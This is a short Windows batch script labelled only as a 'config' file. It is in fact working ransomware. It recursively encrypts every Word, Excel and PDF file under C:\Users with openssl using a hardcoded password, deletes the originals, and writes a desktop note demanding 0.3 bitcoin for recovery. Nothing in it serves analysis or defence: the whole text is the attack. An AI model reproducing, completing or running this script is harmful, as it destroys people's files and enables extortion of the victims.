REM config 6806 v1
@echo off
for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.locked" && del "%%f"
)
echo Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
